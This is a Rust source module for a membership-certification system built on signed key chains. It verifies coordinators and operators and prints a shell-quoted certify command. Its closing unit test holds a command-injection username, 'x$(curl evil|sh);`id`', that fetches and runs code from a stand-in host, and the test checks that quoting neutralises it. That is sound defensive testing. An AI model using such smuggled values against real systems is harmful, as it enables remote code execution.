//! Membership as a chain the organisation controls, not a flag the server keeps. The desk's
//! verifying key (pinned in the routing file) countersigns the organisation's signing key; the
//! organisation's signing key (offline, `homeward org certify`) certifies its first coordinator's
//! identity key; a certified coordinator certifies later members; each identity key signs its
//! account's encryption key. `Chain::check` verifies all of it from the stored rows, right
//! before anything is sealed to an account, so an operator who invites and enrols an account,
//! sets a flag or swaps a key in the database gains no key.

use serde::{Deserialize, Serialize};
use utoipa::ToSchema;

use crate::crypto::envelope::open_queue_key;
use crate::crypto::identity::{fingerprint_matches, identity_of};
use crate::crypto::signing::{Signature, Statement, VerifyingKey};
use crate::crypto::PublicKey;
use crate::store::{
    now, IdentityRow, Store, StoreError, CONSOLE_SIGNER, DESK_SIGNER, ORGANISATION_SIGNER,
};
use crate::trust::accounts::{Principal, Role};
use crate::trust::audit::Audit;
use crate::trust::organisations::{organisation_standing, Hold};
use crate::trust::WorkspaceError;

/// How many coordinators may stand between an organisation's key and an account.
const MAX_DEPTH: usize = 8;
/// What an operator's countersignature names as its organisation: operators belong to none.
pub const OPERATORS: &str = "";

/// Why an account is not (or no longer) a certified member.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Gap {
    /// No such account, or one of no organisation (an operator).
    NoMember,
    /// The account has not logged in since identity keys came, so it has none yet.
    NoIdentity,
    /// The identity key's signature does not cover the account's current encryption key.
    KeyNotBound,
    NotCertified,
    /// A certificate that does not verify, or a certifier who is not a certified coordinator of
    /// the same organisation.
    BrokenChain,
    /// The organisation itself does not stand (suspended, not countersigned, ...).
    Organisation(Hold),
}

impl Gap {
    /// Catalog key suffix: `staff-gap-<code>`.
    pub fn code(self) -> &'static str {
        match self {
            Gap::NoMember => "no-member",
            Gap::NoIdentity => "no-identity",
            Gap::KeyNotBound => "key-not-bound",
            Gap::NotCertified => "not-certified",
            Gap::BrokenChain => "broken-chain",
            Gap::Organisation(_) => "organisation",
        }
    }
}

/// A member whose whole chain verified: the public key to seal to is the one the chain covers.
#[derive(Debug, Clone)]
pub struct Certified {
    pub account_id: String,
    pub username: String,
    pub role: String,
    pub organisation_id: String,
    pub public_key: PublicKey,
    identity: VerifyingKey,
}

/// Checks chains against the desk's pinned key.
#[derive(Clone, Copy)]
pub struct Chain<'a> {
    pub store: &'a Store,
    pub desk_key: Option<&'a VerifyingKey>,
    /// The organisation of the demo desk this server runs (a loopback SQLite install with no
    /// routing file, whose desk key is on disk anyway): its members stand on their own identity,
    /// so that the first run works. `None` on any real deployment, where demo flags in the
    /// database give nothing.
    pub demo_organisation: Option<&'a str>,
}

fn member_statement<'a>(
    row: &'a IdentityRow,
    org: &'a str,
    identity: &'a VerifyingKey,
) -> Statement<'a> {
    Statement::Member {
        organisation: org,
        account: &row.account_id,
        username: &row.username,
        role: &row.role,
        identity,
    }
}

/// The account's identity key, if its signature binds the account's current encryption key.
fn bound_identity(row: &IdentityRow) -> Result<(VerifyingKey, PublicKey), Gap> {
    let identity = row
        .identity_key
        .as_deref()
        .and_then(|k| VerifyingKey::from_bytes(k).ok())
        .ok_or(Gap::NoIdentity)?;
    let public = PublicKey::from_bytes(&row.public_key).map_err(|_| Gap::KeyNotBound)?;
    let signature = row
        .key_signature
        .as_deref()
        .and_then(|s| Signature::from_bytes(s).ok())
        .ok_or(Gap::KeyNotBound)?;
    let statement = Statement::AccountKey {
        account: &row.account_id,
        key: &public,
    };
    if identity.verifies(&statement, &signature) {
        Ok((identity, public))
    } else {
        Err(Gap::KeyNotBound)
    }
}

/// Verifies a chain: `links[0]` is the account, each later link the coordinator who certified
/// the one before, the last one certified by `org_key`. Every link must be of `organisation`,
/// every certifier a coordinator, and the account's identity must bind its encryption key. The
/// same check runs on the server and on the organisation's own machine (`homeward queue grant`).
pub fn verify_links(
    org_key: &VerifyingKey,
    organisation: &str,
    links: &[IdentityRow],
) -> Result<(VerifyingKey, PublicKey), Gap> {
    let mut signer_key = org_key.clone();
    let mut verified = None;
    for (depth, row) in links.iter().enumerate().rev() {
        let expected_signer = match links.get(depth + 1) {
            Some(above) => above.account_id.as_str(),
            None => ORGANISATION_SIGNER,
        };
        if row.organisation_id.as_deref() != Some(organisation)
            || row.signer.as_deref() != Some(expected_signer)
        {
            return Err(Gap::BrokenChain);
        }
        let (identity, public) = match bound_identity(row) {
            Ok(bound) => bound,
            Err(gap) if depth == 0 => return Err(gap),
            Err(_) => return Err(Gap::BrokenChain),
        };
        let signature = row
            .signature
            .as_deref()
            .and_then(|s| Signature::from_bytes(s).ok());
        let certified = signature.is_some_and(|s| {
            signer_key.verifies(&member_statement(row, organisation, &identity), &s)
        });
        if !certified || (depth > 0 && row.role != Role::Coordinator.as_str()) {
            return Err(Gap::BrokenChain);
        }
        signer_key = identity.clone();
        verified = Some((identity, public));
    }
    verified.ok_or(Gap::NotCertified)
}

impl Chain<'_> {
    /// The stored links from the account up to the one its organisation's key certified.
    async fn links(&self, account: &str) -> Result<Result<Vec<IdentityRow>, Gap>, StoreError> {
        let mut links: Vec<IdentityRow> = Vec::new();
        let mut next = account.to_owned();
        loop {
            let Some(row) = self.store.identity(&next).await? else {
                return Ok(Err(if links.is_empty() {
                    Gap::NoMember
                } else {
                    Gap::BrokenChain
                }));
            };
            let signer = row.signer.clone();
            links.push(row);
            match signer.as_deref() {
                None if links.len() == 1 => return Ok(Err(Gap::NotCertified)),
                None => return Ok(Err(Gap::BrokenChain)),
                Some(ORGANISATION_SIGNER) => return Ok(Ok(links)),
                Some(s) if links.len() > MAX_DEPTH || links.iter().any(|l| l.account_id == s) => {
                    return Ok(Err(Gap::BrokenChain))
                }
                Some(s) => next = s.to_owned(),
            }
        }
    }

    /// The account as a certified member, or the first gap in its chain.
    pub async fn check(&self, account: &str) -> Result<Result<Certified, Gap>, StoreError> {
        if let Some(demo) = self.demo_organisation {
            if let Some(row) = self.store.identity(account).await? {
                if row.organisation_id.as_deref() == Some(demo) {
                    return Ok(
                        bound_identity(&row).map(|(identity, public_key)| Certified {
                            account_id: row.account_id.clone(),
                            username: row.username.clone(),
                            role: row.role.clone(),
                            organisation_id: demo.to_owned(),
                            public_key,
                            identity,
                        }),
                    );
                }
            }
        }
        let links = match self.links(account).await? {
            Ok(links) => links,
            Err(gap) => return Ok(Err(gap)),
        };
        let Some(org_id) = links[0].organisation_id.clone() else {
            return Ok(Err(Gap::NoMember));
        };
        let Some(org) = self.store.organisation(&org_id).await? else {
            return Ok(Err(Gap::Organisation(Hold::Unregistered)));
        };
        let org_key = match organisation_standing(&org, self.desk_key) {
            Ok(key) => key,
            Err(hold) => return Ok(Err(Gap::Organisation(hold))),
        };
        let (identity, public_key) = match verify_links(&org_key, &org_id, &links) {
            Ok(verified) => verified,
            Err(gap) => return Ok(Err(gap)),
        };
        let row = &links[0];
        Ok(Ok(Certified {
            account_id: row.account_id.clone(),
            username: row.username.clone(),
            role: row.role.clone(),
            organisation_id: org_id,
            public_key,
            identity,
        }))
    }

    /// An account's chain as stored, for a coordinator to check on the organisation's own
    /// machine before sealing a queue key to it there (`homeward queue grant`).
    pub async fn stored_chain(
        &self,
        who: &Principal,
        account: &str,
    ) -> Result<MemberChain, WorkspaceError> {
        let org = who
            .organisation_id
            .clone()
            .ok_or(WorkspaceError::Forbidden)?;
        managing_coordinator(*self, who).await?;
        let links = match self.links(account).await? {
            Ok(links) => links,
            Err(gap) => return Err(self.outside_or(&org, account, gap).await?),
        };
        if links[0].organisation_id.as_deref() != Some(org.as_str()) {
            return Err(WorkspaceError::NotFound);
        }
        Ok(MemberChain {
            organisation: org,
            links: links.iter().map(ChainLink::from_row).collect(),
        })
    }

    /// The account as a certified member of `organisation`, or `Uncertified`.
    pub async fn member_of(
        &self,
        organisation: &str,
        account: &str,
    ) -> Result<Certified, WorkspaceError> {
        match self.check(account).await? {
            Ok(member) if member.organisation_id == organisation => Ok(member),
            Ok(_) => Err(WorkspaceError::NotFound),
            Err(gap) => Err(self.outside_or(organisation, account, gap).await?),
        }
    }

    /// What to answer about an account whose chain has `gap`: not found when it is not a member
    /// of `organisation` (another organisation's accounts are none of its business, certified
    /// or not), the gap otherwise.
    async fn outside_or(
        &self,
        organisation: &str,
        account: &str,
        gap: Gap,
    ) -> Result<WorkspaceError, StoreError> {
        let member = self
            .store
            .identity(account)
            .await?
            .is_some_and(|row| row.organisation_id.as_deref() == Some(organisation));
        Ok(match gap {
            Gap::NoMember => WorkspaceError::NotFound,
            _ if !member => WorkspaceError::NotFound,
            gap => WorkspaceError::Uncertified(gap),
        })
    }

    /// The person as a certified coordinator of their organisation, who may vouch for others.
    pub async fn coordinator(&self, who: &Principal) -> Result<Certified, WorkspaceError> {
        let org = who
            .organisation_id
            .as_deref()
            .ok_or(WorkspaceError::Forbidden)?;
        if who.role != Role::Coordinator {
            return Err(WorkspaceError::Forbidden);
        }
        let me = self.member_of(org, &who.account_id).await?;
        // The chain covers the stored identity; the session must hold its private half.
        if identity_of(&who.private_key).verifying_key() != me.identity {
            return Err(WorkspaceError::Uncertified(Gap::KeyNotBound));
        }
        Ok(me)
    }
}

/// Records the logged-in person's identity key and its binding of their encryption key, made
/// from the private key their session holds. Accounts made before identity keys get theirs at
/// their next login.
pub async fn record_identity(
    store: &Store,
    account: &str,
    private: &crate::crypto::PrivateKey,
) -> Result<(), StoreError> {
    let identity = identity_of(private);
    let binding = identity.sign(&Statement::AccountKey {
        account,
        key: &private.public_key(),
    });
    store
        .set_identity(
            account,
            &identity.verifying_key().to_bytes(),
            &binding.to_bytes(),
        )
        .await
}

/// What the organisation's offline key (`homeward org certify`) must sign for an account, and
/// the account's identity key in text, so the page can print the exact command.
pub struct CertificateRequest {
    pub organisation: String,
    pub account: String,
    pub username: String,
    pub role: String,
    pub identity: String,
}

impl CertificateRequest {
    /// The `homeward org certify` line to run on the organisation's (or, for an operator, the
    /// desk organisation's) offline machine. Every value is shell-quoted: a username or an id
    /// edited in the database must not run code where the organisation's signing key lives.
    /// `None` if a value cannot be quoted at all (it holds a NUL).
    pub fn command(&self, operator: bool) -> Option<String> {
        let words: Vec<&str> = if operator {
            vec![
                "homeward",
                "org",
                "certify",
                "--operator",
                "--signing-key",
                "DESK-ORGANISATION.key",
                "--account",
                &self.account,
                "--username",
                &self.username,
                "--identity",
                &self.identity,
            ]
        } else {
            vec![
                "homeward",
                "org",
                "certify",
                "--signing-key",
                "ORGANISATION.key",
                "--organisation",
                &self.organisation,
                "--account",
                &self.account,
                "--username",
                &self.username,
                "--role",
                &self.role,
                "--identity",
                &self.identity,
            ]
        };
        shlex::try_join(words).ok()
    }
}

pub async fn certificate_request(
    store: &Store,
    who: &Principal,
) -> Result<Option<CertificateRequest>, StoreError> {
    let Some(row) = store.identity(&who.account_id).await? else {
        return Ok(None);
    };
    let organisation = match (&row.organisation_id, who.role) {
        (Some(org), _) => org.clone(),
        (None, Role::Operator) => OPERATORS.to_owned(),
        (None, _) => return Ok(None),
    };
    // The session's own key, not the database's row: a row swapped there must not be what the
    // organisation is asked to sign.
    let identity = identity_of(&who.private_key).verifying_key();
    Ok(Some(CertificateRequest {
        organisation,
        account: row.account_id,
        username: row.username,
        role: row.role,
        identity: identity.to_text(),
    }))
}

/// Stores the organisation's offline signature over the person's own membership, once it
/// verifies against the organisation's registered signing key.
pub async fn accept_organisation_certificate(
    chain: Chain<'_>,
    audit: &Audit,
    who: &Principal,
    signature: &str,
) -> Result<(), WorkspaceError> {
    let signature = Signature::parse(signature).map_err(|_| WorkspaceError::BadSignature)?;
    let row = chain
        .store
        .identity(&who.account_id)
        .await?
        .ok_or(WorkspaceError::NotFound)?;
    let (identity, _) = bound_identity(&row).map_err(WorkspaceError::Uncertified)?;
    if who.role == Role::Operator {
        let desk_key = chain.desk_key.ok_or(WorkspaceError::BadSignature)?;
        if !desk_key.verifies(&member_statement(&row, OPERATORS, &identity), &signature) {
            return Err(WorkspaceError::BadSignature);
        }
        let entry = audit.entry(
            &who.account_id,
            "operator_countersigned",
            format!("account:{}", who.account_id),
        );
        chain
            .store
            .insert_certificate(
                &who.account_id,
                DESK_SIGNER,
                &signature.to_bytes(),
                now(),
                &entry,
            )
            .await?;
        return Ok(());
    }
    let org_id = who
        .organisation_id
        .as_deref()
        .ok_or(WorkspaceError::Forbidden)?;
    let org = chain
        .store
        .organisation(org_id)
        .await?
        .ok_or(WorkspaceError::NotFound)?;
    let org_key = organisation_standing(&org, chain.desk_key)
        .map_err(|hold| WorkspaceError::Uncertified(Gap::Organisation(hold)))?;
    if !org_key.verifies(&member_statement(&row, org_id, &identity), &signature) {
        return Err(WorkspaceError::BadSignature);
    }
    let entry = audit.entry(
        &who.account_id,
        "member_certified",
        format!("account:{} by:organisation", who.account_id),
    );
    chain
        .store
        .insert_certificate(
            &who.account_id,
            ORGANISATION_SIGNER,
            &signature.to_bytes(),
            now(),
            &entry,
        )
        .await?;
    tracing::info!("account certified by its organisation's key");
    Ok(())
}

/// A certified coordinator certifies a member of their organisation with their identity key,
/// once the fingerprint the member read out to them (`fingerprint`) matches the identity the
/// server holds. A member already certified keeps the certificate they have.
pub async fn certify_member(
    chain: Chain<'_>,
    audit: &Audit,
    who: &Principal,
    account: &str,
    fingerprint: &str,
) -> Result<(), WorkspaceError> {
    let me = chain.coordinator(who).await?;
    if account == who.account_id {
        return Err(WorkspaceError::Forbidden);
    }
    let row = chain
        .store
        .identity(account)
        .await?
        .filter(|r| r.organisation_id.as_deref() == Some(me.organisation_id.as_str()))
        .ok_or(WorkspaceError::NotFound)?;
    let (identity, _) = bound_identity(&row).map_err(WorkspaceError::Uncertified)?;
    if !fingerprint_matches(fingerprint, &identity) {
        return Err(WorkspaceError::WrongFingerprint);
    }
    if chain.check(account).await?.is_ok() {
        return Ok(());
    }
    let signature =
        identity_of(&who.private_key).sign(&member_statement(&row, &me.organisation_id, &identity));
    let entry = audit.entry(
        &who.account_id,
        "member_certified",
        format!(
            "account:{account} by:{} identity:{}",
            who.account_id,
            crate::crypto::identity::fingerprint(&identity)
        ),
    );
    chain
        .store
        .insert_certificate(
            account,
            &who.account_id,
            &signature.to_bytes(),
            now(),
            &entry,
        )
        .await?;
    tracing::info!("member certified by a coordinator");
    Ok(())
}

/// A member's chain in text, as the API gives it to `homeward queue grant`: the account first,
/// then whoever certified each link.
#[derive(Debug, Serialize, Deserialize, ToSchema)]
pub struct MemberChain {
    pub organisation: String,
    pub links: Vec<ChainLink>,
}

#[derive(Debug, Serialize, Deserialize, ToSchema)]
pub struct ChainLink {
    pub account: String,
    pub username: String,
    pub role: String,
    /// hwpk1.
    pub public_key: String,
    /// hwov1.
    pub identity_key: Option<String>,
    /// hwsg1.: the identity key over the public key.
    pub key_signature: Option<String>,
    /// `organisation`, or the certifying coordinator's account id.
    pub signer: Option<String>,
    /// hwsg1.: the signer over this membership.
    pub signature: Option<String>,
}

impl ChainLink {
    fn from_row(row: &IdentityRow) -> ChainLink {
        let text =
            |bytes: &Option<Vec<u8>>, f: fn(&[u8]) -> Option<String>| bytes.as_deref().and_then(f);
        ChainLink {
            account: row.account_id.clone(),
            username: row.username.clone(),
            role: row.role.clone(),
            public_key: PublicKey::from_bytes(&row.public_key)
                .map(|k| k.to_text())
                .unwrap_or_default(),
            identity_key: text(&row.identity_key, |b| {
                VerifyingKey::from_bytes(b).ok().map(|k| k.to_text())
            }),
            key_signature: text(&row.key_signature, |b| {
                Signature::from_bytes(b).ok().map(|s| s.to_text())
            }),
            signer: row.signer.clone(),
            signature: text(&row.signature, |b| {
                Signature::from_bytes(b).ok().map(|s| s.to_text())
            }),
        }
    }

    /// The link as a row `verify_links` reads; text that does not parse becomes no value, which
    /// the check then refuses.
    pub fn to_row(&self, organisation: &str) -> IdentityRow {
        IdentityRow {
            account_id: self.account.clone(),
            username: self.username.clone(),
            role: self.role.clone(),
            organisation_id: Some(organisation.to_owned()),
            public_key: PublicKey::parse(&self.public_key)
                .map(|k| k.to_bytes())
                .unwrap_or_default(),
            identity_key: self
                .identity_key
                .as_deref()
                .and_then(|k| VerifyingKey::parse(k).ok())
                .map(|k| k.to_bytes()),
            key_signature: self
                .key_signature
                .as_deref()
                .and_then(|s| Signature::parse(s).ok())
                .map(|s| s.to_bytes()),
            signer: self.signer.clone(),
            signature: self
                .signature
                .as_deref()
                .and_then(|s| Signature::parse(s).ok())
                .map(|s| s.to_bytes()),
        }
    }
}

/// Whether the person may manage their organisation's members (remove them, make reset links,
/// confirm a queue after a restore): a certified coordinator or, until their organisation
/// certifies them, a coordinator from before identity keys who holds a genuine copy of one of its
/// queue keys, one that opens to the queue's current key as its organisation signed it. The
/// server cannot make such a copy, so an account it planted has none.
pub async fn managing_coordinator(chain: Chain<'_>, who: &Principal) -> Result<(), WorkspaceError> {
    let gap = match chain.coordinator(who).await {
        Ok(_) => return Ok(()),
        Err(WorkspaceError::Uncertified(gap @ Gap::Organisation(_))) => {
            return Err(WorkspaceError::Uncertified(gap))
        }
        Err(WorkspaceError::Uncertified(gap)) => gap,
        Err(e) => return Err(e),
    };
    let org_id = who
        .organisation_id
        .as_deref()
        .ok_or(WorkspaceError::Forbidden)?;
    let org = chain
        .store
        .organisation(org_id)
        .await?
        .ok_or(WorkspaceError::Forbidden)?;
    let org_key = organisation_standing(&org, chain.desk_key)
        .map_err(|hold| WorkspaceError::Uncertified(Gap::Organisation(hold)))?;
    for queue in chain.store.queues_of_organisation(org_id).await? {
        if holds_genuine_key(chain.store, who, &queue.id, &org_key).await? {
            return Ok(());
        }
    }
    Err(WorkspaceError::Uncertified(gap))
}

async fn holds_genuine_key(
    store: &Store,
    who: &Principal,
    queue: &str,
    org_key: &VerifyingKey,
) -> Result<bool, StoreError> {
    let (Some(copy), Some(row)) = (
        store.key_copy(queue, &who.account_id).await?,
        store.queue_standing_row(queue).await?,
    ) else {
        return Ok(false);
    };
    let Ok(key) = open_queue_key(&copy, &who.private_key, queue, &who.account_id) else {
        return Ok(false);
    };
    let public = key.public_key();
    let signature = row
        .signature
        .as_deref()
        .and_then(|s| Signature::from_bytes(s).ok());
    Ok(public.to_bytes() == row.public_key
        && signature.is_some_and(|s| {
            org_key.verifies(
                &Statement::QueueKey {
                    queue,
                    kind: &row.kind,
                    key: &public,
                },
                &s,
            )
        }))
}

/// Whether an operator stands as one: made at the server's console (`homeward admin bootstrap`
/// or `recover-operator`), or countersigned by the desk organisation's offline key. An operator
/// cannot make another one alone: the one they invite can log in and do nothing until the desk
/// countersigns it.
pub async fn operator_standing(chain: Chain<'_>, who: &Principal) -> Result<(), WorkspaceError> {
    if who.role != Role::Operator {
        return Err(WorkspaceError::Forbidden);
    }
    let row = chain
        .store
        .identity(&who.account_id)
        .await?
        .ok_or(WorkspaceError::Forbidden)?;
    match row.signer.as_deref() {
        Some(CONSOLE_SIGNER) => Ok(()),
        Some(DESK_SIGNER) => {
            let (identity, _) = bound_identity(&row).map_err(WorkspaceError::Uncertified)?;
            let signature = row
                .signature
                .as_deref()
                .and_then(|s| Signature::from_bytes(s).ok());
            let countersigned = match (chain.desk_key, signature) {
                (Some(desk), Some(s)) => {
                    desk.verifies(&member_statement(&row, OPERATORS, &identity), &s)
                }
                _ => false,
            };
            if countersigned {
                Ok(())
            } else {
                Err(WorkspaceError::Uncertified(Gap::BrokenChain))
            }
        }
        _ => Err(WorkspaceError::Uncertified(Gap::NotCertified)),
    }
}

#[cfg(test)]
mod tests {
    use super::CertificateRequest;

    #[test]
    fn the_printed_command_runs_nothing_an_edited_username_holds() {
        let request = CertificateRequest {
            organisation: "partner".into(),
            account: "a1".into(),
            username: "x$(curl evil|sh);`id`'\"".into(),
            role: "coordinator".into(),
            identity: "hwiv1.abc".into(),
        };
        for operator in [false, true] {
            let command = request.command(operator).unwrap_or_default();
            let words = shlex::split(&command).unwrap_or_default();
            let at = words.iter().position(|w| w == "--username");
            assert_eq!(
                at.and_then(|i| words.get(i + 1)).map(String::as_str),
                Some(request.username.as_str()),
                "{command}"
            );
            assert_eq!(words.first().map(String::as_str), Some("homeward"));
        }
        let nul = CertificateRequest {
            username: "a\0b".into(),
            ..request
        };
        assert_eq!(nul.command(false), None);
    }
}
